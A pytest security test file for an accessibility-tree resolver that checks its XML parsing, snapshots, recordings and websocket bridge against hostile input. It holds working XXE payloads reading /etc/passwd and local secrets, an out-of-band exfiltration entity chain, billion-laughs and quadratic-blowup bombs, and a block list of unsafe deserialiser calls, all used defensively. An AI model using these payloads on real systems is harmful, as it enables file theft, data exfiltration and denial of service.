"""Hostile input: XML external entities, entity bombs, unsafe deserialisers, and the bridge's
listening address and message size.

Every XML accessibility-tree format, the DOM source, SnapshotV1 and recordings are fed the
same payloads: nothing from a local file or a URL may reach a row, an answer or an error
message, no connection may be made, and entity bombs are refused at once. XML formats are
tried detected and forced, as text, bytes and a file path, and behind a long leading comment
(past the 64 KiB the entity-declaration check looks at, so libxml2's own settings are tested).
"""

from __future__ import annotations

import ast
import asyncio
import contextlib
import ipaddress
import json
import resource
import socket
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import Any, TypeVar

import pytest

from resolver import Observation, resolve
from resolver.adapters.a11y import detect_format, format_names, parse_input, parse_xml
from resolver.errors import InvalidObservationError, ResolutionError
from resolver.table import CandidateTable

T = TypeVar("T")
ROOT = Path(__file__).resolve().parents[1]
PACKAGE = ROOT / "resolver"
SECRET = "TOPSECRET-c81f"
"""Content of the local files the payloads point at; it must never come back."""
PASSWD_MARKERS = ("root:x:", ":/bin/", ":/usr/sbin/nologin")
PAD = "<!--" + "p" * 70_000 + "-->"
"""A leading comment longer than the entity-declaration check's window."""

BODIES: dict[str, str] = {
    "atspi": (
        '<desktop-frame name="main"><application name="app">'
        '<push-button name="{attr}">{text}</push-button><label name="l">{text}</label>'
        "</application></desktop-frame>"
    ),
    "uiautomator": (
        '<hierarchy rotation="0"><node index="0" text="{attr}" content-desc="{attr}" '
        'class="android.widget.Button" bounds="[0,0][100,40]" clickable="true">{text}</node>'
        '<node index="1" text="Plain" class="android.widget.TextView" bounds="[0,50][100,90]"/>'
        "</hierarchy>"
    ),
}
"""A small tree per XML format, with slots for an attribute value and element text."""
XML_FORMATS = tuple(BODIES)


# -- sentinels ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Files:
    secret: str
    """URI of a text file holding :data:`SECRET`."""
    leak_dtd: str
    """URI of a DTD that declares ``leak`` as :data:`SECRET`."""
    attlist_dtd: str
    """URI of a DTD that gives ``push-button`` a default ``name`` of :data:`SECRET`."""
    port: int
    """A local port that listens and must never be connected to."""


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A listening socket: libxml2 connects in C, past any Python patch, so a fetch would
    show here as a pending connection."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind(("127.0.0.1", 0))
    sock.listen(8)
    sock.setblocking(False)
    yield sock
    sock.close()


@pytest.fixture
def files(tmp_path: Path, listener: socket.socket) -> Files:
    (tmp_path / "secret.txt").write_text(SECRET, encoding="utf-8")
    (tmp_path / "leak.dtd").write_text(f'<!ENTITY leak "{SECRET}">', encoding="utf-8")
    (tmp_path / "attl.dtd").write_text(
        f'<!ATTLIST push-button name CDATA "{SECRET}">', encoding="utf-8"
    )
    return Files(
        secret=(tmp_path / "secret.txt").as_uri(),
        leak_dtd=(tmp_path / "leak.dtd").as_uri(),
        attlist_dtd=(tmp_path / "attl.dtd").as_uri(),
        port=int(listener.getsockname()[1]),
    )


@pytest.fixture
def offline(monkeypatch: pytest.MonkeyPatch, listener: socket.socket) -> Iterator[None]:
    """Fail on any outgoing connection: from Python (patched) or from C (the listener)."""

    def refuse(self: socket.socket, address: Any) -> None:
        raise AssertionError(f"a connection to {address!r} was attempted")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    yield
    try:
        conn, peer = listener.accept()
    except BlockingIOError:
        return
    conn.close()
    pytest.fail(f"the parser connected to the sentinel port from {peer}")


def _leaks(text: str) -> bool:
    return SECRET in text or any(marker in text for marker in PASSWD_MARKERS)


def _table_text(table: CandidateTable) -> str:
    columns: list[Any] = [table.ids, table.executor_ids, table.roles, table.raw_roles]
    columns += [table.names, table.values, table.containers, table.document_name]
    columns += [dict(table.platform_ids)]
    return json.dumps(columns, default=str)


def _error_text(exc: ResolutionError) -> str:
    parts = [str(exc), repr(exc.message), json.dumps(exc.evidence.details, default=str)]
    parts += [repr(exc.evidence.candidates), repr(exc.evidence.trace)]
    return " ".join(parts)


def _attempt(run: Callable[[], T]) -> tuple[T | None, str]:
    """What ``run`` returns, or ``None`` and the full text of the error it raised."""
    try:
        return run(), ""
    except ResolutionError as exc:
        return None, _error_text(exc)


def _assert_no_leak(obs: Observation, source: str = "a11y") -> CandidateTable | None:
    """Build the table; refusal is fine, a leak (in the rows or the error) is not."""
    table, error = _attempt(partial(obs.candidates, source))
    assert not _leaks(error), error
    if table is not None:
        assert not _leaks(_table_text(table)), _table_text(table)
    return table


# -- payloads ----------------------------------------------------------------------------


def _xxe(files: Files) -> dict[str, tuple[str, str]]:
    """Name -> (DOCTYPE, reference placed in the body's attribute and text slots)."""
    http = f"http://127.0.0.1:{files.port}"
    oob = (
        f'<!ENTITY % file SYSTEM "{files.secret}">'
        f"<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '{http}/?%file;'>\"> %wrap; %send;"
    )
    return {
        "file_passwd": ('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "&e;"),
        "file_secret": (f'<!DOCTYPE x [<!ENTITY e SYSTEM "{files.secret}">]>', "&e;"),
        "http_entity": (f'<!DOCTYPE x [<!ENTITY e SYSTEM "{http}/e">]>', "&e;"),
        "public_entity": (f'<!DOCTYPE x [<!ENTITY e PUBLIC "-//X//Y" "{http}/p">]>', "&e;"),
        "param_file": (f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{files.leak_dtd}"> %p;]>', "&leak;"),
        "param_passwd": ('<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>', "x"),
        "param_http": (f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{http}/p.dtd"> %p;]>', "&leak;"),
        "param_out_of_band": (f"<!DOCTYPE x [{oob}]>", "x"),
        "external_dtd_file": (f'<!DOCTYPE x SYSTEM "{files.leak_dtd}">', "&leak;"),
        "external_dtd_attlist": (f'<!DOCTYPE x SYSTEM "{files.attlist_dtd}">', ""),
        "external_dtd_http": (f'<!DOCTYPE x SYSTEM "{http}/x.dtd">', "x"),
        "xinclude": (
            "",
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{files.secret}" '
            'parse="text"/>',
        ),
    }


def _document(fmt: str, doctype: str, ref: str, *, pad: bool) -> str:
    attr = ref if "<" not in ref else "x"
    body = BODIES[fmt].replace("{attr}", attr).replace("{text}", ref)
    return '<?xml version="1.0"?>' + (PAD if pad else "") + doctype + body


def _laughs() -> str:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    return f"<!DOCTYPE x [{entities}]>"


BOMBS: dict[str, tuple[str, str]] = {
    "billion_laughs": (_laughs(), "&lol9;"),
    "quadratic_blowup": ('<!DOCTYPE x [<!ENTITY a "' + "a" * 50_000 + '">]>', "&a;" * 20_000),
}


def _xml_inputs(doc: str, tmp_path: Path) -> list[str | bytes | Path]:
    path = tmp_path / "tree.xml"
    path.write_text(doc, encoding="utf-8")
    return [doc, doc.encode("utf-8"), path]


@contextlib.contextmanager
def _bounded(seconds: float = 5.0, megabytes: float = 200.0) -> Iterator[None]:
    """Fail when the block takes longer than ``seconds`` or grows the peak RSS past
    ``megabytes``."""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    start = time.perf_counter()
    yield
    elapsed = time.perf_counter() - start
    grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert elapsed < seconds, f"took {elapsed:.2f} s"
    assert grown < megabytes, f"peak RSS grew by {grown:.0f} MB"


# -- the XML formats ---------------------------------------------------------------------


def test_every_xml_format_is_covered() -> None:
    xml_fixtures = sorted((ROOT / "fixtures" / "formats").glob("*/*.xml"))
    assert xml_fixtures
    detected = {detect_format(parse_input(path.read_bytes())).name for path in xml_fixtures}
    for fmt, body in BODIES.items():
        tree = parse_input(body.replace("{attr}", "OK").replace("{text}", ""))
        assert detect_format(tree).name == fmt
    assert detected <= set(XML_FORMATS)
    parsed = parse_input(BODIES["atspi"].replace("{attr}", "x").replace("{text}", ""))
    others = [f for f in format_names() if f not in XML_FORMATS]
    assert all(detect_format(parsed).name != f for f in others)


@pytest.mark.usefixtures("offline")
@pytest.mark.parametrize("pad", [False, True], ids=["plain", "padded"])
@pytest.mark.parametrize("forced", [False, True], ids=["detected", "forced"])
@pytest.mark.parametrize("fmt", XML_FORMATS)
def test_xml_external_entities_never_leak_or_fetch(
    fmt: str, forced: bool, pad: bool, files: Files, tmp_path: Path
) -> None:
    for name, (doctype, ref) in _xxe(files).items():
        for raw in _xml_inputs(_document(fmt, doctype, ref, pad=pad), tmp_path):
            obs = Observation(accessibility_tree=raw, tree_format=fmt if forced else None)
            table = _assert_no_leak(obs)
            if table is not None:
                assert table.format == fmt, name
            probe = {"role": "button", "name": "leak"}
            res, error = _attempt(partial(resolve, probe, obs, sources=("a11y",)))
            assert not _leaks(error), (name, error)
            assert res is None or not _leaks(repr(res.candidate) + repr(res.alternatives))


@pytest.mark.usefixtures("offline")
@pytest.mark.parametrize("fmt", format_names())
def test_every_forced_format_parses_xml_safely(fmt: str, files: Files) -> None:
    # Whatever format is forced, XML input goes through the one safe parser first.
    for doctype, ref in _xxe(files).values():
        for pad in (False, True):
            doc = _document("atspi", doctype, ref, pad=pad)
            _assert_no_leak(Observation(accessibility_tree=doc, tree_format=fmt))


@pytest.mark.parametrize("pad", [False, True], ids=["plain", "padded"])
@pytest.mark.parametrize("where", ["attr", "text"])
@pytest.mark.parametrize("bomb", list(BOMBS))
@pytest.mark.parametrize("fmt", XML_FORMATS)
def test_xml_entity_bombs_are_refused_quickly(
    fmt: str, bomb: str, where: str, pad: bool, tmp_path: Path
) -> None:
    doctype, ref = BOMBS[bomb]
    attr, text = (ref, "") if where == "attr" else ("x", ref)
    body = BODIES[fmt].replace("{attr}", attr).replace("{text}", text)
    doc = '<?xml version="1.0"?>' + (PAD if pad else "") + doctype + body
    for raw in _xml_inputs(doc, tmp_path):
        for forced in (None, fmt):
            with _bounded(), pytest.raises(ResolutionError) as info:
                Observation(accessibility_tree=raw, tree_format=forced).candidates("a11y")
            assert isinstance(info.value, InvalidObservationError)
            assert len(str(info.value)) < 5_000


@pytest.mark.usefixtures("offline")
@pytest.mark.parametrize("fmt", XML_FORMATS)
def test_a_doctype_with_only_an_internal_subset_is_read(fmt: str, files: Files) -> None:
    # Declarations without entities, and a public DTD that is named but never fetched.
    plain = _document(fmt, "", "OK", pad=False)
    expected = Observation(accessibility_tree=plain).candidates("a11y")
    doctypes = [
        "<!DOCTYPE x>",
        "<!DOCTYPE x [<!ELEMENT x ANY><!-- note --><?pi data?>]>",
        '<!DOCTYPE x [<!ATTLIST push-button role CDATA "link"><!NOTATION n SYSTEM "n">]>',
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
        f'"http://127.0.0.1:{files.port}/xhtml1-strict.dtd">',
    ]
    for doctype in doctypes:
        table = Observation(accessibility_tree=_document(fmt, doctype, "OK", pad=False)).candidates(
            "a11y"
        )
        assert table.format == fmt
        assert (table.ids, table.roles, table.names) == (
            expected.ids,
            expected.roles,
            expected.names,
        ), doctype


def test_entity_declarations_are_refused_before_parsing() -> None:
    doc = _document("atspi", '<!DOCTYPE x [<!ENTITY e "expanded">]>', "&e;", pad=False)
    with pytest.raises(InvalidObservationError, match="declares entities"):
        parse_xml(doc)


@pytest.mark.parametrize("how", ["padded", "utf7"])
def test_entity_declarations_are_refused_wherever_they_are(how: str) -> None:
    if how == "padded":
        doc = _document("atspi", '<!DOCTYPE x [<!ENTITY e "expanded">]>', "&e;", pad=True)
    else:
        doc = (
            '<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE x +AFs-+ADw-!ENTITY e '
            "+ACI-expanded+ACI-+AD4-+AF0-+AD4-"
            + BODIES["atspi"].replace("{attr}", "&e;").replace("{text}", "")
        )
    with pytest.raises(InvalidObservationError, match="entities"):
        parse_xml(doc)


# -- the DOM source ----------------------------------------------------------------------


@pytest.mark.usefixtures("offline")
def test_dom_source_never_expands_or_fetches(files: Files) -> None:
    from resolver.snapshot import to_snapshot_v1

    for doctype, ref in [*_xxe(files).values(), *BOMBS.values()]:
        for pad in (False, True):
            page = (
                '<?xml version="1.0"?>'
                + (PAD if pad else "")
                + doctype
                + f'<html><body><button title="{ref[:200]}">{ref}</button>'
                + f'<img src="http://127.0.0.1:{files.port}/i.png" alt="pic">'
                + f'<iframe src="{files.secret}"></iframe>'
                + f'<link rel="stylesheet" href="http://127.0.0.1:{files.port}/s.css">'
                + "</body></html>"
            )
            for raw in (page, page.encode("utf-8")):
                obs = Observation(dom_html=raw)
                with _bounded():
                    table = _assert_no_leak(obs, "dom")
                assert table is not None and "button" in table.roles
                snap = to_snapshot_v1(obs, source="dom", include_dom=True, redact=False)
                assert not _leaks(json.dumps(snap, default=str))


# -- SnapshotV1 --------------------------------------------------------------------------


@pytest.mark.usefixtures("offline")
@pytest.mark.parametrize("fmt", XML_FORMATS)
def test_snapshot_v1_of_hostile_xml(fmt: str, files: Files) -> None:
    from resolver.snapshot import to_snapshot_v1

    for doctype, ref in [*_xxe(files).values(), *BOMBS.values()]:
        for pad in (False, True):
            obs = Observation(accessibility_tree=_document(fmt, doctype, ref, pad=pad))
            with _bounded():
                snap, error = _attempt(partial(to_snapshot_v1, obs, redact=False))
            assert not _leaks(error), error
            if snap is None:
                continue
            text = json.dumps(snap, default=str)
            assert not _leaks(text)
            # Read back, the snapshot is JSON: markup in its strings stays text.
            again = Observation(accessibility_tree=json.loads(text)).candidates("a11y")
            assert again.format == "snapshot" and not _leaks(_table_text(again))


@pytest.mark.usefixtures("offline")
def test_snapshot_v1_strings_are_never_parsed_as_xml(files: Files) -> None:
    doctype, ref = _xxe(files)["file_secret"]
    markup = doctype + BODIES["atspi"].replace("{attr}", ref).replace("{text}", ref)
    snap = {
        "snapshot_version": 1,
        "ax_tree": {
            "root_id": "r",
            "nodes": [
                {"id": "r", "role": "document", "name": markup, "children": ["b"]},
                {"id": "b", "role": "button", "name": "&e;", "value": markup},
            ],
        },
    }
    table = Observation(accessibility_tree=snap).candidates("a11y")
    assert table.names == (markup, "&e;")


# -- recordings --------------------------------------------------------------------------


def _recording_files(folder: Path, files: Files) -> None:
    doctype, ref = _xxe(files)["file_secret"]
    bomb_doctype, bomb_ref = BOMBS["billion_laughs"]
    xxe = _document("atspi", doctype, ref, pad=False)
    padded = _document("atspi", doctype, ref, pad=True)
    bomb = _document("atspi", bomb_doctype, bomb_ref, pad=False)
    click = {"type": "click", "element": {"role": "push button", "name": SECRET}}
    entries: list[dict[str, Any]] = [
        {"kind": "ax_snapshot", "snapshot_id": "s1", "snapshot": {"accessibility_tree": xxe}},
        {"kind": "decision", "step": "1", "action": click, "target_node": "1"},
        {"kind": "ax_snapshot", "snapshot_id": "s2", "snapshot": {"AT": padded}},
        {"kind": "decision", "step": "2", "action": click},
        {"kind": "ax_snapshot", "snapshot_id": "s3", "snapshot": {"dom_html": bomb}},
        {"kind": "decision", "step": "3", "action": click},
    ]
    (folder / "mapping.agent.json").write_text(
        json.dumps({"recording_version": 1, "mode": "agent", "timeline": entries}),
        encoding="utf-8",
    )
    inline = [{"kind": "ax_snapshot", "snapshot_id": "s1", "snapshot": xxe}, entries[1]]
    (folder / "inline.agent.json").write_text(
        json.dumps({"recording_version": 1, "mode": "agent", "timeline": inline}),
        encoding="utf-8",
    )
    lines = [
        {**click, "x": 1, "y": 1, "accessibility_tree": padded},
        {**click, "x": 1, "y": 1, "snapshot": bomb},
    ]
    (folder / "openadapt.jsonl").write_text(
        "\n".join(json.dumps(line) for line in lines) + "\n", encoding="utf-8"
    )
    (folder / "tree.xml").write_text(xxe, encoding="utf-8")
    (folder / "file.agent.json").write_text(
        json.dumps(
            {
                "recording_version": 1,
                "timeline": [{"kind": "ax_snapshot", "file": "tree.xml"}, entries[1]],
            }
        ),
        encoding="utf-8",
    )


@pytest.mark.usefixtures("offline")
def test_recordings_with_embedded_hostile_trees(tmp_path: Path, files: Files) -> None:
    from resolver.replay import (
        RecordingError,
        ReplayOptions,
        discover,
        read_recording,
        replay_local,
    )

    _recording_files(tmp_path, files)
    for path in sorted(tmp_path.glob("*.json*")):
        if path.name in ("file.agent.json", "inline.agent.json", "openadapt.jsonl"):
            # A snapshot must be a JSON object: XML text (inline, or in the file an entry
            # names) is refused when the recording is read, never parsed.
            with pytest.raises(RecordingError) as info:
                read_recording(path)
            assert not _leaks(str(info.value))
            continue
        for doc in read_recording(path).snapshots.values():
            with _bounded():
                _assert_no_leak(Observation(accessibility_tree=doc))
    with _bounded(seconds=20):
        results = replay_local(discover([tmp_path]), ReplayOptions())
    assert results
    assert not _leaks(json.dumps(results, default=str))


# -- unsafe deserialisers and parsers in the package --------------------------------------

_UNSAFE_CALLS = {
    ("pickle", "load"), ("pickle", "loads"), ("pickle", "Unpickler"),
    ("cPickle", "load"), ("cPickle", "loads"), ("dill", "load"), ("dill", "loads"),
    ("marshal", "load"), ("marshal", "loads"), ("shelve", "open"),
    ("yaml", "load"), ("yaml", "load_all"), ("yaml", "unsafe_load"), ("yaml", "full_load"),
    ("jsonpickle", "decode"),
}  # fmt: skip
_UNSAFE_MODULES = {"pickle", "cPickle", "dill", "marshal", "shelve", "jsonpickle", "yaml"}
_STDLIB_XML = ("xml.etree", "xml.dom", "xml.sax", "xml.parsers", "xmlrpc")
_LXML_PARSE = {"fromstring", "parse", "XML", "XMLParser", "iterparse", "XMLPullParser", "HTML"}
_PARSER_HOME = PACKAGE / "adapters" / "a11y" / "__init__.py"


def _package_sources() -> list[tuple[Path, ast.Module]]:
    paths = sorted(PACKAGE.rglob("*.py"))
    assert len(paths) > 50
    return [(path, ast.parse(path.read_text(encoding="utf-8"), str(path))) for path in paths]


def _dotted(node: ast.expr) -> str:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return f"{_dotted(node.value)}.{node.attr}"
    return ""


def test_no_unsafe_deserialisers_or_dynamic_code() -> None:
    problems: list[str] = []
    for path, tree in _package_sources():
        where = path.relative_to(ROOT)
        for node in ast.walk(tree):
            if isinstance(node, ast.Import):
                problems += [
                    f"{where}:{node.lineno} imports {alias.name}"
                    for alias in node.names
                    if alias.name.split(".")[0] in _UNSAFE_MODULES
                    or alias.name.startswith(_STDLIB_XML)
                ]
            elif isinstance(node, ast.ImportFrom) and node.module:
                module = node.module
                if module.split(".")[0] in _UNSAFE_MODULES or module.startswith(_STDLIB_XML):
                    problems.append(f"{where}:{node.lineno} imports from {module}")
            elif isinstance(node, ast.Call):
                name = _dotted(node.func)
                parts = tuple(name.rsplit(".", 1))
                dynamic = name in ("eval", "exec", "compile", "__import__", "builtins.eval")
                unsafe = len(parts) == 2 and (parts[0].split(".")[-1], parts[1]) in _UNSAFE_CALLS
                if dynamic or unsafe:
                    problems.append(f"{where}:{node.lineno} calls {name}")
                elif (
                    len(parts) == 2
                    and parts[0].split(".")[-1] in ("etree", "html", "objectify")
                    and parts[1] in _LXML_PARSE
                    and path != _PARSER_HOME
                ):
                    problems.append(f"{where}:{node.lineno} parses XML outside parse_xml")
    assert not problems, "\n".join(problems)


def test_the_one_xml_parser_loads_nothing() -> None:
    from resolver.adapters.a11y import _xml_parser

    parser = _xml_parser()
    text = ast.get_source_segment(
        _PARSER_HOME.read_text(encoding="utf-8"),
        next(
            node
            for node in ast.walk(ast.parse(_PARSER_HOME.read_text(encoding="utf-8")))
            if isinstance(node, ast.FunctionDef) and node.name == "_xml_parser"
        ),
    )
    assert parser is not None and text is not None
    for setting in ("resolve_entities=False", "no_network=True", "load_dtd=False"):
        assert setting in text, setting
    assert "huge_tree=True" not in text


# -- servers -----------------------------------------------------------------------------

_SERVER_CALLS = {"serve", "start_server", "create_server", "bind", "listen", "run_app"}
_SERVER_CLASSES = {"HTTPServer", "ThreadingHTTPServer", "TCPServer", "UDPServer", "Server"}
_KNOWN_SERVERS = {
    PACKAGE / "capture" / "bridge.py",
    PACKAGE / "server" / "mcp.py",
    PACKAGE / "server" / "http.py",
}
_LISTENING_RUNS = {"streamable-http", "sse"}  # MCPServer.run transports that open a socket


def test_the_known_servers_are_the_only_servers() -> None:
    # A new listening socket in the package needs the tests below.
    found: set[Path] = set()
    for path, tree in _package_sources():
        for node in ast.walk(tree):
            if isinstance(node, ast.Call):
                name = _dotted(node.func).rsplit(".", 1)[-1]
                if name in _SERVER_CALLS or name in _SERVER_CLASSES:
                    found.add(path)
                first = node.args[0] if node.args else None
                if isinstance(first, ast.Constant) and first.value in _LISTENING_RUNS:
                    found.add(path)
            elif (
                isinstance(node, ast.Import) and any(a.name == "uvicorn" for a in node.names)
            ) or (
                isinstance(node, ast.ImportFrom)
                and node.module
                in (
                    "http.server",
                    "socketserver",
                    "aiohttp.web",
                    "uvicorn",
                )
            ):
                found.add(path)
    assert found == _KNOWN_SERVERS


def test_the_agent_servers_listen_on_loopback_only() -> None:
    # Every call that starts the MCP or HTTP server names the loopback host, not a variable
    # a caller could set to 0.0.0.0.
    from resolver.server import http

    assert ipaddress.ip_address(http.HOST).is_loopback
    for path in (PACKAGE / "server" / "mcp.py", PACKAGE / "server" / "http.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        starts = [
            node for node in ast.walk(tree)
            if isinstance(node, ast.Call) and _dotted(node.func).rsplit(".", 1)[-1] == "run"
            and any(k.arg == "host" for k in node.keywords)
        ]  # fmt: skip
        assert starts, path
        for call in starts:
            host = next(k.value for k in call.keywords if k.arg == "host")
            value = host.value if isinstance(host, ast.Constant) else getattr(http, _dotted(host))
            assert ipaddress.ip_address(value).is_loopback, path


def test_bridge_listens_on_loopback_by_default(tmp_path: Path) -> None:
    pytest.importorskip("websockets")
    import inspect

    from resolver.capture import bridge as bridge_module
    from resolver.capture.bridge import BrowserCaptureBridge

    default = inspect.signature(BrowserCaptureBridge).parameters["host"].default
    assert default == bridge_module.DEFAULT_HOST
    assert ipaddress.ip_address(socket.gethostbyname(default)).is_loopback

    async def scenario() -> list[str]:
        async with BrowserCaptureBridge(tmp_path / "a.jsonl", port=0) as bridge:
            return [str(s.getsockname()[0]) for s in bridge._server.sockets]

    addresses = asyncio.run(scenario())
    assert addresses and all(ipaddress.ip_address(a).is_loopback for a in addresses)


CLICK = {"type": "click", "x": 1, "y": 2, "element": {"tag": "button", "name": "Save"}}


def test_bridge_refuses_oversized_messages_and_stays_up(tmp_path: Path) -> None:
    pytest.importorskip("websockets")
    from websockets.asyncio.client import connect
    from websockets.exceptions import ConnectionClosed

    from resolver.capture.bridge import MAX_MESSAGE, BrowserCaptureBridge

    out = tmp_path / "a.jsonl"

    async def too_big(url: str, payload: Any, compression: str | None) -> int | None:
        async with connect(url, compression=compression, max_size=None) as ws:
            await ws.send(payload)
            with pytest.raises(ConnectionClosed) as info:
                await asyncio.wait_for(ws.recv(), timeout=10)
            return None if info.value.rcvd is None else int(info.value.rcvd.code)

    async def scenario() -> tuple[list[int | None], list[dict[str, Any]], int]:
        async with BrowserCaptureBridge(out, port=0) as bridge:
            url = f"ws://127.0.0.1:{bridge.port}"
            codes = [
                await too_big(url, "x" * (MAX_MESSAGE + 1), None),
                await too_big(url, b"\x00" * (MAX_MESSAGE + 1), None),
                # Compressed on the wire to a few KiB: the limit is on the inflated size.
                await too_big(url, " " * (4 * MAX_MESSAGE), "deflate"),
                # Fragments, each small, adding up to more than the limit.
                await too_big(url, iter(["y" * 65_536] * (MAX_MESSAGE // 65_536 + 1)), None),
            ]
            replies: list[dict[str, Any]] = []
            async with connect(url) as ws:  # the server is still up
                event = json.dumps([CLICK])
                await ws.send(event + " " * (MAX_MESSAGE - len(event)))  # exactly the limit
                replies.append(json.loads(await asyncio.wait_for(ws.recv(), timeout=10)))
                await ws.send(json.dumps(CLICK))
                replies.append(json.loads(await asyncio.wait_for(ws.recv(), timeout=10)))
            return codes, replies, bridge.accepted

    with _bounded(seconds=20, megabytes=400):
        codes, replies, accepted = asyncio.run(scenario())
    assert codes == [1009] * 4
    assert replies == [{"ok": True, "accepted": 1}] * 2
    assert accepted == 2
    assert len(out.read_text(encoding="utf-8").splitlines()) == 2
